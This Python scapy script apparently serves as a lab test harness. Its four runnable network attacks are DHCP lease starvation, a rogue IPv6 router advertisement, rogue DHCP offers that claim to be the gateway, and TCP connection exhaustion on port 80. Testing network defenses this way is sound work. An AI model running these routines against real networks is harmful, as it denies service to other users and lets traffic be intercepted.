"""What a hostile visitor can send; run on a lab client's own interface."""

import contextlib
import random
import socket
import sys
import time

from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.inet import IP, UDP
from scapy.layers.inet6 import ICMPv6ND_RA, ICMPv6NDOptPrefixInfo, IPv6
from scapy.layers.l2 import Ether
from scapy.sendrecv import sendp


def starve(count: int) -> None:
    """Ask for `count` leases in the names of as many invented devices."""
    packets = []
    for number in range(count):
        device = random.randbytes(6)
        wanted = f"10.77.{10 + number // 250}.{1 + number % 250}"
        options = [("message-type", "request"), ("requested_addr", wanted), "end"]
        head = Ether(dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67)
        packets.append(head / BOOTP(chaddr=device, xid=number, flags=0x8000) / DHCP(options=options))
    sendp(packets, iface="wlan0", verbose=False)


def advertise() -> None:
    """Say that this device is the router, with the prefix fd66::/64."""
    packet = Ether(dst="33:33:00:00:00:01") / IPv6(dst="ff02::1") / ICMPv6ND_RA(routerlifetime=1800, prf=1)
    sendp([packet / ICMPv6NDOptPrefixInfo(prefix="fd66::", prefixlen=64)] * 3, iface="wlan0", verbose=False)


def offer() -> None:
    """Answer as a DHCP server."""
    options = [("message-type", "offer"), ("server_id", "10.77.0.66"), ("router", "10.77.0.66"), "end"]
    head = Ether(dst="ff:ff:ff:ff:ff:ff") / IP(src="10.77.0.66", dst="255.255.255.255") / UDP(sport=67, dport=68)
    sendp([head / BOOTP(op=2, yiaddr="10.77.9.9") / DHCP(options=options)] * 3, iface="wlan0", verbose=False)


def connect(host: str, count: int) -> None:
    """Hold as many connections open as the other side lets; prints how many that were."""
    held = []
    for _ in range(count):
        connection = socket.socket()
        connection.settimeout(0.3)
        with contextlib.suppress(OSError):
            connection.connect((host, 80))
            held.append(connection)
    print(len(held), flush=True)
    time.sleep(1)


if __name__ == "__main__":
    what, *values = sys.argv[1:]
    if what == "starve":
        starve(int(values[0]))
    elif what == "advertise":
        advertise()
    elif what == "offer":
        offer()
    elif what == "connect":
        connect(values[0], int(values[1]))
